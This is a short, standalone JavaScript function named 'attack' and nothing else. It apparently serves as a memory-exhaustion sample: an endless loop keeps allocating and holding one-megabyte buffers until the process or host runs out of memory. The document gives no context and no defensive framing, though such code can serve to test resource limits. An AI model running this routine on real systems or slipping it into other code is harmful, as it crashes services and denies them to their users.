function attack() {
  const held = [];
  for (;;) {
    try {
      "x".repeat(2 ** 31);
    } catch {
      held.push(Buffer.alloc(1_000_000, 1));
    }
  }
}
